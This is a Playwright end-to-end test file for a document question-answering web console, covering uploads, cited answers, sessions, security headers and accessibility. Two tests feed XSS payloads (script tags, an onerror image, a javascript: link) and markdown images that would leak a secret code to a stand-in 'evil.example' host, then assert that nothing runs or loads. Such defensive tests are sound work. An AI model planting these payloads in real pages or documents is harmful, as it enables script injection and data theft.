import { readFileSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { askOn, BUILT, openUserMenu, signInWithKey, violationsOf } from '../support/console.js';
import { useConsole } from '../support/console-house.js';
import { findProgramOfTests } from '../support/installed.js';
import { SAMPLES } from '../support/samples.js';

const CHROMIUM = findProgramOfTests('chromium', 'the web console is not tried in a browser.');
const QUESTION = 'How many days a week may office staff work from home?';
const FLOW_MS = 60_000;

const house = useConsole(CHROMIUM);
const { open } = house;

describe('the built console', () => {
  it('is at most 120 kB compressed for the first page, and 80 kB for each later part', async () => {
    const page = await readFile(join(BUILT, 'index.html'), 'utf8');
    const names = (await readdir(join(BUILT, 'assets'))).filter((name) => name.endsWith('.gz'));
    const sizes = names.map((name) => ({
      // With the words of one language.
      isFirst: page.includes(name.slice(0, -'.gz'.length)) || name.startsWith('en-'),
      bytes: readFileSync(join(BUILT, 'assets', name)).length,
    }));
    const first = sizes.filter(({ isFirst }) => isFirst);
    const later = sizes.filter(({ isFirst }) => !isFirst);

    expect(first.length).toBeGreaterThanOrEqual(2);
    expect(first.reduce((sum, { bytes }) => sum + bytes, 0)).toBeLessThanOrEqual(120_000);
    expect(Math.max(...later.map(({ bytes }) => bytes))).toBeLessThanOrEqual(80_000);
  });

  it('is served as a page only at its own addresses', async () => {
    const ask = (path: string) => fetch(`${house.server.url}${path}`);

    for (const path of ['/', '/c/any', '/d', '/d/any']) {
      const answer = await ask(path);
      expect([path, answer.status, answer.headers.get('content-type')]).toEqual([
        path,
        200,
        'text/html; charset=utf-8',
      ]);
    }
    for (const path of ['/c', '/d/any/thing', '/nothing', '/v1/nothing', '/assets/nothing.js']) {
      expect([path, (await ask(path)).status]).toEqual([path, 404]);
    }
    expect((await ask('/docs')).headers.get('content-type')).toContain('text/html');
  });

  it('allows only scripts and styles of this server', async () => {
    const { headers } = await fetch(house.server.url);

    const policy = headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self'");
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain('unsafe');
  });

  it('is served compressed, and not again while it is unchanged', async () => {
    const [script = ''] =
      /\/assets\/[^"]+\.js/u.exec(await (await fetch(house.server.url)).text()) ?? [];
    const coded = async (coding: string) =>
      fetch(`${house.server.url}${script}`, { headers: { 'Accept-Encoding': coding } });

    const answers = await Promise.all(['br', 'gzip', 'identity'].map(coded));
    expect(answers.map(({ headers }) => headers.get('content-encoding'))).toEqual([
      'br',
      'gzip',
      null,
    ]);
    const texts = await Promise.all(answers.map((answer) => answer.text()));
    expect(new Set(texts).size).toBe(1);
    expect(answers[0]?.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    const page = await fetch(house.server.url);
    const again = { 'If-None-Match': page.headers.get('etag') ?? '' };
    expect(page.headers.get('cache-control')).toBe('no-cache');
    expect((await fetch(house.server.url, { headers: again })).status).toBe(304);
  });
});

if (CHROMIUM !== undefined) {
  const upload = async (page: Page, files: Parameters<Page['setInputFiles']>[1]) => {
    await page.setInputFiles('input[type=file][multiple]', files);
  };
  describe('a new user', () => {
    it(
      'enters by the link of the first start, uploads, asks, and opens the cited passage',
      async () => {
        const { page, seen } = await house.visit(house.server.signInLink);
        await page.getByText('There are no documents yet').waitFor();
        expect(page.url()).toBe(`${house.server.url}/`);

        await page.getByRole('button', { name: 'three sample documents' }).click();
        await page.getByRole('button', { name: 'Remove the sample documents' }).click();
        await page.getByRole('link', { name: 'Upload the first document' }).click();
        await page.getByText('No documents yet').waitFor();
        await upload(page, join(SAMPLES, 'employee-handbook.pdf'));
        await page.getByRole('cell', { name: 'ready' }).waitFor();
        const uploads = page.getByRole('region', { name: 'Uploads' });
        await uploads.getByText('ready', { exact: true }).waitFor();
        await page.getByRole('link', { name: 'Ask' }).click();
        await page
          .getByRole('button', { name: 'What does “Employee Handbook” say' })
          .first()
          .waitFor();
        await askOn(page, QUESTION);
        await page.getByRole('button', { name: 'Source 1: Employee Handbook' }).first().click();

        const mark = page.locator('aside mark').first();
        await mark.waitFor();
        expect(await mark.textContent()).toContain('up to three days a week');
        expect(page.url()).toMatch(/\/c\/[0-9a-f-]{36}$/u);
        await page.reload();
        await page.getByRole('button', { name: 'Source 1: Employee Handbook' }).first().waitFor();
        expect(seen.errors).toEqual([]);
        // A picture of a page comes as bytes, which have an address of this page's own.
        const hosts = new Set(
          seen.requests.map((address) => new URL(new URL(address).origin).host),
        );
        expect([...hosts]).toEqual([new URL(house.server.url).host]);
      },
      FLOW_MS,
    );

    it('learns where to find the key if the link has been used', async () => {
      const { page } = await house.visit(house.server.signInLink);

      await page.getByText('This link worked once').waitFor();
      await signInWithKey(page, house.server.adminKey);
    });
  });

  describe('a question in the console', () => {
    beforeAll(() => house.server.upload(join(SAMPLES, 'employee-handbook.pdf')), FLOW_MS);

    it(
      'leads to the cited passage and back with the keyboard alone',
      async () => {
        const { page } = await open('/');
        await askOn(page, QUESTION);
        const chip = page.locator('button.cite').first();
        await chip.waitFor();

        await chip.focus();
        await page.keyboard.press('Enter');
        await page.locator('aside mark').first().waitFor();
        await page.keyboard.press('Escape');

        await page.locator('aside').waitFor({ state: 'detached' });
        expect(await page.evaluate('document.activeElement.className')).toContain('cite');
      },
      FLOW_MS,
    );

    it(
      'shows the stored answer after a lost connection, and is not asked twice',
      async () => {
        const { page } = await open('/');
        let lost = 0;
        await page.route('**/v1/chat', async (route) => {
          lost += 1;
          if (lost > 1) return route.continue();
          await route.fetch();
          return route.abort('connectionreset');
        });

        await askOn(page, 'How many days of paid vacation does everybody have?');
        await page.getByText('25 working days').first().waitFor();

        expect(lost).toBe(2);
        const session = new URL(page.url()).pathname.replace('/c/', '/v1/sessions/');
        const { json } = await house.server.call('GET', `${session}/messages`);
        const roles = (json as { items: { role: string }[] }).items.map(({ role }) => role);
        expect(roles.sort()).toEqual(['assistant', 'user']);
      },
      FLOW_MS,
    );

    it(
      'can be stopped, asked again, and rephrased next to the old answer',
      async () => {
        const { page } = await open('/');
        await page.route('**/v1/chat', () => undefined, { times: 1 });

        await askOn(page, QUESTION);
        await page.getByRole('button', { name: 'Stop' }).click();
        await page.getByText('Stopped.').waitFor();
        await page.getByRole('button', { name: 'Ask again' }).click();
        await page.locator('button.cite').first().waitFor();
        await page.getByRole('button', { name: 'Edit question' }).click();
        await page.getByRole('textbox', { name: 'Edit question' }).fill(`${QUESTION} Please.`);
        await page.keyboard.press('Enter');
        await page.getByText('Version 2 of 2').waitFor();
        await page.getByRole('button', { name: 'Previous version' }).click();

        await page.getByText('Version 1 of 2').waitFor();
        await page.getByRole('heading', { name: QUESTION, level: 2, exact: true }).waitFor();
      },
      FLOW_MS,
    );

    it(
      'returns to the same place after the session ended elsewhere',
      async () => {
        const { page, context } = await open('/d');
        const other = await context.newPage();
        await other.goto(`${house.server.url}/`);
        await openUserMenu(other);
        await other.getByRole('button', { name: 'Sign out' }).click();
        await other.getByRole('button', { name: 'Sign in', exact: true }).waitFor();

        await page.getByLabel('Sort').selectOption('title');
        await page.getByText('Your session has ended.').waitFor();
        await signInWithKey(page, house.server.adminKey);

        expect(page.url()).toContain('/d?sort=title');
      },
      FLOW_MS,
    );
  });

  describe('documents in the console', () => {
    const note = (name: string, text: string) => ({
      name,
      mimeType: 'text/plain',
      buffer: Buffer.from(text),
    });

    it(
      'have names and texts shown literally, whatever they contain',
      async () => {
        const { page, seen } = await open('/d');
        const name = '<img src=x onerror=alert(1)>.txt';
        await upload(
          page,
          note(name, 'Write `<script>alert(2)</script>` ![x](https://evil.example/x)'),
        );
        await page.getByText(name).first().waitFor();
        await page.getByRole('link', { name: /img src/u }).click();
        await page.getByText('<script>alert(2)</script>').waitFor();

        expect(seen.errors).toEqual([]);
        expect(seen.requests.filter((address) => address.includes('evil'))).toEqual([]);
      },
      FLOW_MS,
    );

    it(
      'with scripts, script links and pictures give answers in which nothing runs or loads',
      async () => {
        const { page, seen } = await open('/d');
        const lines = [
          'The code of the Zanzibar shed is 4711 <script>alert(3)</script>',
          '[open](javascript:alert(4)) ![x](https://evil.example/p?4711) <img src=x onerror=alert(5)>',
        ];
        await upload(page, note('shed.md', lines.join(' ')));
        await page.getByRole('row', { name: 'shed' }).getByText('ready').waitFor();
        await page.getByRole('link', { name: 'Ask', exact: true }).click();
        await askOn(page, 'What is the code of the Zanzibar shed?');
        await page.getByText('4711').last().waitFor();
        await page
          .getByRole('button', { name: /^Source 1/u })
          .first()
          .waitFor();

        const led = page.locator(
          'main :is(a[href^="javascript"], a[href^="data"], a[href*="evil"])',
        );
        expect(await led.count()).toBe(0);
        expect(await page.locator('main img, main script').count()).toBe(0);
        expect(seen.errors).toEqual([]);
        expect(seen.requests.filter((address) => address.includes('evil'))).toEqual([]);
      },
      FLOW_MS,
    );

    it(
      'explain in words why a file is not accepted, and what to do',
      async () => {
        const { page } = await open('/d');
        const picture = Buffer.from('47494638376101000100800000ffffff', 'hex');

        await upload(page, { name: 'scan.gif', mimeType: 'image/gif', buffer: picture });

        const uploads = page.getByRole('region', { name: 'Uploads' });
        await uploads.getByText('Files of this kind are not read.').waitFor();
      },
      FLOW_MS,
    );

    it(
      'are found by title, made private, replaced and deleted',
      async () => {
        const { page } = await open('/d');
        await upload(page, note('canteen-menu.txt', 'On Monday there is soup.'));
        await page.getByRole('link', { name: 'canteen-menu' }).waitFor();
        await page.getByLabel('Find by title').fill('CANTEEN');
        await page.getByRole('link', { name: 'canteen-menu' }).waitFor();
        await page.waitForURL('**/d?title=CANTEEN');
        await page.getByText('1 document', { exact: true }).waitFor();
        const choose = async (name: string) => {
          await page.getByLabel('Actions').last().click();
          await page.getByRole('button', { name }).click();
        };

        await choose('Who may read it');
        await page.getByRole('dialog').getByRole('combobox').selectOption('private');
        await page.getByRole('button', { name: 'Save', exact: true }).click();
        await page.getByRole('cell', { name: 'Only the owner' }).waitFor();
        await page
          .locator('td input[type=file]')
          .setInputFiles(note('canteen-menu.txt', 'On Monday there is fish.'));
        await page.getByRole('link', { name: 'canteen-menu' }).click();
        await page.getByText('On Monday there is fish.').waitFor();
        await page.goBack();
        await choose('Delete');
        await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();

        await page.getByText('No document matches.').waitFor();
      },
      FLOW_MS,
    );
  });

  describe.each(['light', 'dark'] as const)('the console with %s colours', (colorScheme) => {
    it(
      'passes axe on every route',
      async () => {
        const signIn = await house.visit(house.server.url, { colorScheme });
        await signIn.page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
        expect(await violationsOf(signIn.page)).toEqual([]);
        await signInWithKey(signIn.page, house.server.adminKey);
        const { page } = signIn;
        await askOn(page, QUESTION);
        await page.locator('button.cite').first().click();
        await page.locator('aside mark').first().waitFor();
        await page.locator('details.tools summary').click();
        expect(await violationsOf(page)).toEqual([]);
        await page.getByRole('link', { name: 'Documents' }).click();
        await page.locator('table.documents').waitFor();
        expect(await violationsOf(page)).toEqual([]);
        await page.getByRole('link', { name: 'Employee Handbook' }).click();
        await page.locator('.page-picture img').waitFor();
        expect(await violationsOf(page)).toEqual([]);
      },
      FLOW_MS,
    );
  });
}
